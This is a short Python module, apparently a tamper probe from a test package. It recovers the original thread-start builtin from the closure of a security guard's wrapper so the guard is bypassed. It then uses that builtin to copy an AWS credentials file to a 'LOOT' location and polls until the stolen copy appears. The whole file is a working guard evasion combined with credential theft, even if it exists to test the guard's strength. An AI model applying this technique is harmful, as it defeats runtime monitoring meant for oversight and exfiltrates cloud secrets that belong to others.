"""The builtins are taken out of the closures of what the guard has put in their place."""

import _thread
import os
import shutil
import time

from acme_tamper.stage import AWS, LOOT

start = _thread.start_new_thread
for cell in getattr(start, "__closure__", None) or ():
    if type(cell.cell_contents) is type(len):
        start = cell.cell_contents


def is_there():
    return os.path.exists(LOOT) and os.path.getsize(LOOT) > 0


start(shutil.copyfile, (AWS, LOOT))
end = time.monotonic() + 1
while time.monotonic() < end and not is_there():
    os.sched_yield()
